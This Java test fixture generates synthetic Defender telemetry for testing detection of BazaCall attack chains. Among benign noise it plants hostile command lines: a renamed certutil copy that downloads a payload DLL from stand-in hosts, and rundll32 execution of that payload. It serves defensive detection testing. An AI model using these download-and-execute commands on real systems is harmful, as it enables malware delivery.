package dev.bazahunt.job.testing;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;

/**
 * A fleet's Defender telemetry as the Streaming API delivers it: Event Hubs messages of up to 10 rows,
 * each message one device's burst of activity, keyed by DeviceId, in event-time order. Among the noise
 * (including near-misses: real certutil CRL fetches, CryptnetUrlCache writes by svchost, an https
 * download by cmd's certutil, benign Excel children) it plants complete BazaCall chains: Excel spawns
 * {@code cmd /c mkdir … && copy …certutil.exe …}, the renamed copy downloads a payload and writes its
 * two CryptnetUrlCache entries, and two minutes later Excel runs the payload with rundll32
 * {@code ,GlobalOut}. Each chain gives exactly one base and one correlated alert. Their AlertIds are
 * known in advance (README's recipe, {@link AlertIdRecipe}), and so is their evidence: the download's
 * rows and files, and every Excel child on the device within the window, with its stage and link
 * ({@link #expectedAlerts()}).
 */
public final class BazaCallFleetTelemetry {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String TENANT = "3f2b9c1e-5d7a-4a1b-9c2d-7e5f1a2b3c4d";
    private static final int ROWS_PER_MESSAGE = 10;
    private static final long RENAMED_CERTUTIL_PID = 7212;
    private static final String CERTUTIL_DOWNLOAD = "f5ff5b00-a90e-40b8-b241-9427a8ec5189";
    private static final String BAZACALL_CORRELATION = "6115fe87-e990-4ade-b52f-b35ebea0864d";
    /** Microsoft's "Excel Macro Execution" query: each chain's cmd "&& copy" of certutil is one hit. */
    private static final String EXCEL_MACRO_EXECUTION = "fa2c1c3a-18f8-4c83-8501-ea110873f99f";
    private static final String BAZACALL_CAMPAIGN_INCIDENT = "2a3ad1a6-46c5-4d36-bd99-08e07db7f0f1";
    /** The stream's default correlation window, which the tests that use this fleet keep. */
    private static final Duration WINDOW = Duration.ofMinutes(30);

    /**
     * What one alert must hold, read off the rows planted for it: its rule, the ReportIds and files of
     * the download, and, for a correlated alert, its link strength and each Excel child as
     * {@code "<ReportId> <Stage> <Link>"}, in ReportId order.
     */
    public record ExpectedAlert(String ruleId, List<Long> reportIds, List<String> droppedFiles, String linkStrength,
            List<String> excelChildren) {
        /** The facts of each alert the job wrote, by AlertId. */
        public static Map<String, ExpectedAlert> of(Map<String, String> alertsById) {
            Map<String, ExpectedAlert> facts = new TreeMap<>();
            alertsById.forEach((id, json) -> facts.put(id, of(json)));
            return facts;
        }

        /** The same facts, taken from an alert the job wrote. */
        public static ExpectedAlert of(String alertJson) {
            JsonNode alert;
            try {
                alert = JSON.readTree(alertJson);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
            List<Long> reportIds = new ArrayList<>();
            alert.path("ReportIds").forEach(id -> reportIds.add(id.asLong()));
            List<String> dropped = new ArrayList<>();
            alert.path("DroppedFiles").forEach(file -> dropped.add(file.asText()));
            Map<Long, String> children = new TreeMap<>();
            alert.path("Evidence").forEach(child -> children.put(child.get("ReportId").asLong(),
                    child.get("ReportId").asLong() + " " + child.get("Stage").asText() + " " + child.get("Link").asText()));
            return new ExpectedAlert(alert.get("RuleId").asText(), reportIds, dropped,
                    alert.hasNonNull("LinkStrength") ? alert.get("LinkStrength").asText() : null,
                    List.copyOf(children.values()));
        }
    }

    /** An Excel child the noise put on some device: it is evidence of any chain on that device nearby. */
    private record NoiseExcelChild(String device, Instant at, long reportId) {}

    /** One Event Hubs message: its Kafka key and its {@code {"records":[…]}} body. */
    public record Message(String deviceId, String body) {}

    private final List<Message> messages;
    private final int rowCount;
    private final Map<String, ExpectedAlert> expectedAlerts = new TreeMap<>();
    private final List<NoiseExcelChild> noiseExcelChildren = new ArrayList<>();
    private final Instant end;
    private final int chains;
    private long nextReportId = 40_000;

    /**
     * @param rows about how many rows to generate (noise plus the chains)
     * @param devices how many devices the noise is spread over
     * @param chains how many BazaCall chains to plant, each on its own device
     */
    public BazaCallFleetTelemetry(long seed, int rows, int devices, int chains, Instant start, Duration span) {
        this.chains = chains;
        Random random = new Random(seed);
        List<String> fleet = new ArrayList<>();
        for (int i = 0; i < devices; i++) {
            byte[] id = new byte[20];
            random.nextBytes(id);
            fleet.add(HexFormat.of().formatHex(id));
        }
        List<Burst> bursts = new ArrayList<>();
        int noiseRows = 0;
        while (noiseRows < rows) {
            Instant at = start.plusMillis((long) (random.nextDouble() * span.toMillis()));
            String device = fleet.get(random.nextInt(devices));
            Burst burst = noiseBurst(random, device, at);
            noiseRows += burst.rows.size();
            bursts.add(burst);
        }
        for (int chain = 0; chain < chains; chain++) {
            Instant at = start.plusMillis(span.toMillis() * (chain + 1) / (chains + 1));
            bursts.addAll(plantChain(fleet.get(chain * (devices / Math.max(chains, 1))), chain, at));
        }
        bursts.sort(Comparator.comparing(Burst::at));
        List<Message> built = new ArrayList<>(bursts.size());
        int count = 0;
        Instant last = start;
        for (Burst burst : bursts) {
            for (int from = 0; from < burst.rows.size(); from += ROWS_PER_MESSAGE) {
                built.add(message(burst.device, burst.rows.subList(from, Math.min(burst.rows.size(), from + ROWS_PER_MESSAGE))));
            }
            count += burst.rows.size();
            last = burst.at.isAfter(last) ? burst.at : last;
        }
        this.messages = built;
        this.rowCount = count;
        this.end = last;
    }

    public List<Message> messages() {
        return messages;
    }

    public int rowCount() {
        return rowCount;
    }

    /** The base and correlated AlertIds of every planted chain, and nothing else. */
    public Set<String> expectedAlertIds() {
        return expectedAlerts.keySet();
    }

    /**
     * How many alerts of each rule the whole pack raises on this fleet: per chain (each on its own
     * device) the download, its correlation, the Excel Macro Execution hit of the certutil copy, and the
     * device's campaign incident. The noise raises nothing.
     */
    public Map<String, Integer> expectedAlertsPerRule() {
        return Map.of(CERTUTIL_DOWNLOAD, chains, BAZACALL_CORRELATION, chains, EXCEL_MACRO_EXECUTION, chains,
                BAZACALL_CAMPAIGN_INCIDENT, chains);
    }

    /** How many of {@code alertsById} each rule raised. */
    public static Map<String, Integer> alertsPerRule(Map<String, String> alertsById) {
        Map<String, Integer> counts = new TreeMap<>();
        alertsById.values().forEach(json -> counts.merge(ExpectedAlert.of(json).ruleId(), 1, Integer::sum));
        return counts;
    }

    /** The seed rule's and the correlation's alerts among {@code alertsById}: those {@link #expectedAlerts} describes. */
    public static Map<String, String> downloadsAndCorrelations(Map<String, String> alertsById) {
        Map<String, String> selected = new TreeMap<>();
        alertsById.forEach((id, json) -> {
            String rule = ExpectedAlert.of(json).ruleId();
            if (rule.equals(CERTUTIL_DOWNLOAD) || rule.equals(BAZACALL_CORRELATION)) {
                selected.put(id, json);
            }
        });
        return selected;
    }

    /** Every alert the fleet must raise, by AlertId, with the evidence it must hold. */
    public Map<String, ExpectedAlert> expectedAlerts() {
        return expectedAlerts;
    }

    /**
     * One benign row a day after the last event, for the given device: sent to every partition, it moves
     * each partition's watermark past every correlation window, so all pending alerts complete.
     */
    public Message clockMessage(String device) {
        return message(device, List.of(TestRows.benign(device, end.plus(Duration.ofDays(1)), 1)));
    }

    private record Burst(Instant at, String device, List<ObjectNode> rows) {}

    private Burst noiseBurst(Random random, String device, Instant at) {
        List<ObjectNode> rows = new ArrayList<>();
        int size = 1 + random.nextInt(2 * ROWS_PER_MESSAGE - 4);
        for (int i = 0; i < size; i++) {
            Instant rowAt = at.plusMillis(i * 40L + random.nextInt(40));
            rows.add(switch (random.nextInt(20)) {
                case 0 -> nearMissCrlFetch(device, rowAt);
                case 1 -> cryptnetCacheDecoy(device, rowAt);
                case 2 -> httpsDownloadByCmd(device, rowAt);
                case 3 -> noiseExcelChild(device, rowAt, random);
                case 4, 5, 6, 7, 8 -> processStart(device, rowAt, random);
                default -> TestRows.benign(device, rowAt, reportId());
            });
        }
        return new Burst(at, device, rows);
    }

    private List<Burst> plantChain(String device, int chain, Instant at) {
        String folder = "C:\\Users\\Public\\bz" + chain;
        String renamed = "bz" + chain + ".exe";
        String payload = folder + "\\tmp" + (1000 + chain) + ".dll";
        ObjectNode copy = TestRows.excelChild(device, at, reportId(), 6640, "cmd.exe",
                "cmd.exe /c mkdir " + folder + " && copy C:\\Windows\\System32\\certutil.exe " + folder + "\\" + renamed
                        + " && " + folder + "\\" + renamed + " -urlcache -split -f http://d" + chain + "x.xyz/g.php " + payload);

        Instant downloadAt = at.plusSeconds(3);
        Instant processCreation = downloadAt.minusMillis(150);
        List<ObjectNode> download = new ArrayList<>();
        String[] written = {payload,
                "C:\\Users\\m.ortiz\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\" + cacheName(chain),
                "C:\\Users\\m.ortiz\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\MetaData\\" + cacheName(chain)};
        List<Long> downloadReportIds = new ArrayList<>();
        for (int i = 0; i < written.length; i++) {
            ObjectNode row = TestRows.download(device, downloadAt.plusMillis(100L * i), reportId());
            row.put("FolderPath", written[i]);
            row.put("FileName", written[i].substring(written[i].lastIndexOf('\\') + 1));
            row.put("InitiatingProcessFileName", renamed);
            row.put("InitiatingProcessFolderPath", folder.toLowerCase() + "\\" + renamed);
            row.put("InitiatingProcessCommandLine",
                    renamed + "  -urlcache -split -f http://d" + chain + "x.xyz/g.php " + payload);
            row.put("InitiatingProcessCreationTime", TestRows.nanos(processCreation));
            // The renamed certutil's parent is the shell Excel spawned: the chain's lineage.
            row.put("InitiatingProcessParentId", copy.get("ProcessId").asLong());
            row.put("InitiatingProcessParentCreationTime", copy.get("ProcessCreationTime").asText());
            download.add(row);
            downloadReportIds.add(row.get("ReportId").asLong());
        }
        ObjectNode run = TestRows.excelChild(device, at.plusSeconds(120), reportId(), 7388, "rundll32.exe",
                "rundll32.exe " + payload + ",GlobalOut");

        String base = AlertIdRecipe.forProcess(CERTUTIL_DOWNLOAD, device, RENAMED_CERTUTIL_PID, processCreation);
        String correlated = AlertIdRecipe.forProcess(BAZACALL_CORRELATION, device, RENAMED_CERTUTIL_PID, processCreation);
        expectedAlerts.put(base, new ExpectedAlert(CERTUTIL_DOWNLOAD, downloadReportIds, List.of(written), null, List.of()));
        Instant first = downloadAt;
        Instant last = downloadAt.plusMillis(100L * (written.length - 1));
        // The noise is generated first, so every Excel child near the download is known here.
        Map<Long, String> children = new TreeMap<>();
        children.put(copy.get("ReportId").asLong(), copy.get("ReportId").asLong() + " certutil-copied lineage");
        children.put(run.get("ReportId").asLong(), run.get("ReportId").asLong() + " payload-executed device-window");
        for (NoiseExcelChild child : noiseExcelChildren) {
            if (child.device().equals(device) && !child.at().isBefore(first.minus(WINDOW))
                    && !child.at().isAfter(last.plus(WINDOW))) {
                children.put(child.reportId(), child.reportId() + " excel-child device-window");
            }
        }
        expectedAlerts.put(correlated, new ExpectedAlert(BAZACALL_CORRELATION, downloadReportIds, List.of(written),
                "lineage", List.copyOf(children.values())));

        return List.of(new Burst(at, device, List.of(copy)), new Burst(downloadAt, device, download),
                new Burst(at.plusSeconds(120), device, List.of(run)));
    }

    /** Excel's print helper on a random device: noise, and evidence when it lands near a chain. */
    private ObjectNode noiseExcelChild(String device, Instant at, Random random) {
        long reportId = reportId();
        noiseExcelChildren.add(new NoiseExcelChild(device, at, reportId));
        return TestRows.excelChild(device, at, reportId, 9000 + random.nextInt(2000), "splwow64.exe", "splwow64.exe 8192");
    }

    private static String cacheName(int chain) {
        return String.format("%032X", 0x9F3A1C0E5B7DL + chain);
    }

    /** The real certutil fetching a CRL: the rule's {@code !~ "certutil.exe"} excludes it. */
    private ObjectNode nearMissCrlFetch(String device, Instant at) {
        ObjectNode row = TestRows.download(device, at, reportId());
        row.put("InitiatingProcessFileName", "certutil.exe");
        row.put("InitiatingProcessFolderPath", "c:\\windows\\system32\\certutil.exe");
        row.put("InitiatingProcessCommandLine", "certutil.exe -urlcache -split -f http://crl.microsoft.com/pki/crl/products/MicRooCerAut2011.crl");
        row.put("FolderPath", "C:\\Windows\\Temp\\MicRooCerAut2011.crl");
        row.put("FileName", "MicRooCerAut2011.crl");
        return row;
    }

    /** svchost maintaining the CryptnetUrlCache: "urlcache" in the path, never in a matching command line. */
    private ObjectNode cryptnetCacheDecoy(String device, Instant at) {
        ObjectNode row = TestRows.benign(device, at, reportId());
        row.put("ActionType", "FileCreated");
        row.put("FolderPath", "C:\\Windows\\System32\\config\\systemprofile\\AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\MetaData\\57C8EDB95DF3F0AD4EE2DC2B8CFD4157");
        row.put("FileName", "57C8EDB95DF3F0AD4EE2DC2B8CFD4157");
        row.put("InitiatingProcessCommandLine", "svchost.exe -k NetworkService -p -s CryptSvc");
        return row;
    }

    /** A renamed certutil fetching over https: {@code has "http"} does not match the term {@code https}. */
    private ObjectNode httpsDownloadByCmd(String device, Instant at) {
        ObjectNode row = TestRows.download(device, at, reportId());
        row.put("InitiatingProcessCommandLine", "x8k2.exe -urlcache -split -f https://cdn.contoso.com/agent.msi C:\\Temp\\agent.msi");
        return row;
    }

    private ObjectNode processStart(String device, Instant at, Random random) {
        String[][] programs = {
                {"chrome.exe", "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer"},
                {"OneDrive.exe", "\"C:\\Users\\m.ortiz\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"},
                {"conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"},
                {"taskhostw.exe", "taskhostw.exe Install $(Arg0)"}};
        String[] program = programs[random.nextInt(programs.length)];
        ObjectNode row = TestRows.excelChild(device, at, reportId(), 1000 + random.nextInt(30000), program[0], program[1]);
        row.put("InitiatingProcessFileName", "explorer.exe");
        row.put("InitiatingProcessId", 4120);
        return row;
    }

    private long reportId() {
        return nextReportId++;
    }

    private static Message message(String device, List<ObjectNode> rows) {
        ObjectNode body = JSON.createObjectNode();
        ArrayNode records = body.putArray("records");
        for (ObjectNode row : rows) {
            ObjectNode record = records.addObject();
            String table = row.get("Type").asText();
            ObjectNode properties = row.deepCopy();
            properties.remove("Type");
            // Defender receives a row a little after it happened; event time is the row's own Timestamp.
            record.put("time", TestRows.nanos(Instant.parse(row.get("Timestamp").asText()).plusSeconds(40)));
            record.put("tenantId", TENANT);
            record.put("operationName", "Publish");
            record.put("category", "AdvancedHunting-" + table);
            record.set("properties", properties);
        }
        return new Message(device, TestRows.line(body));
    }
}
